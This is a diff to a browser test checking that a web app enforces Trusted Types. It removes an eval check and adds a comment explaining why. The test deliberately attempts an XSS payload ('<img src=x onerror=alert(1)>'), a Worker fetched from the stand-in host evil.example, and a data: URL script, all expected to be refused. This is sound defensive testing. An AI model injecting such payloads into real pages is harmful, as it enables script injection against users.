@@ -45,13 +45,13 @@ test('the app works with Trusted Types required, and refuses untrusted script si
   await expect(page.getByText('Ready to work offline')).toBeVisible();
   await waitForServiceWorker(page);
 
-  // Trusted Types are enforced: HTML from a string, eval and a script from elsewhere fail.
+  // Trusted Types are enforced: HTML from a string and scripts from elsewhere are refused.
+  // (eval cannot be tried from here: the test's own evaluate is exempt from the policy.)
   const refused = await page.evaluate(() => {
     const tries: Record<string, () => unknown> = {
       innerHTML: () => {
         document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>';
       },
-      eval: () => window.eval('1 + 1'),
       foreignWorker: () => new Worker('https://evil.example/x.js'),
       dataScript: () => {
         document.createElement('script').src = 'data:text/javascript,alert(1)';
@@ -70,7 +70,6 @@ test('the app works with Trusted Types required, and refuses untrusted script si
   });
   expect(refused).toEqual({
     innerHTML: 'refused',
-    eval: 'refused',
     foreignWorker: 'refused',
     dataScript: 'refused',
   });
